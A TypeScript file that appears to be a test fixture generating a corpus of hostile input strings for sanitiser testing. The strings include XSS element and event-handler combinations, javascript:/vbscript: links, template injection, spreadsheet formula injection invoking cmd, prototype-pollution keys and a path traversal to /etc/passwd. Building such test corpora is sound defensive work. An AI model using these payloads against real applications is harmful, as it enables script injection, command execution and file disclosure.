const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onanimationstart',
];
const hosts = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'iframe',
  'marquee',
  'animate',
];
const codes = ['alert(1)', 'fetch(`//e.example`)', 'window.__xss=1', 'top.__xss=1'];
const links = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:'];

/** Names as hostile contacts write them: elements, links, templates, formulas, path and prototype tricks. */
export const xssCorpus: readonly string[] = [
  ...hosts.flatMap((host) =>
    events.flatMap((event) => codes.map((code) => `<${host} ${event}=${code}>`)),
  ),
  ...links.flatMap((link) => codes.map((code) => `<a href="${link}${code}">x</a>`)),
  '"><script>window.__xss=1</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)-->',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=HYPERLINK("https://e.example","x")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '__proto__',
  'constructor.prototype.x',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '../../../../etc/passwd',
];
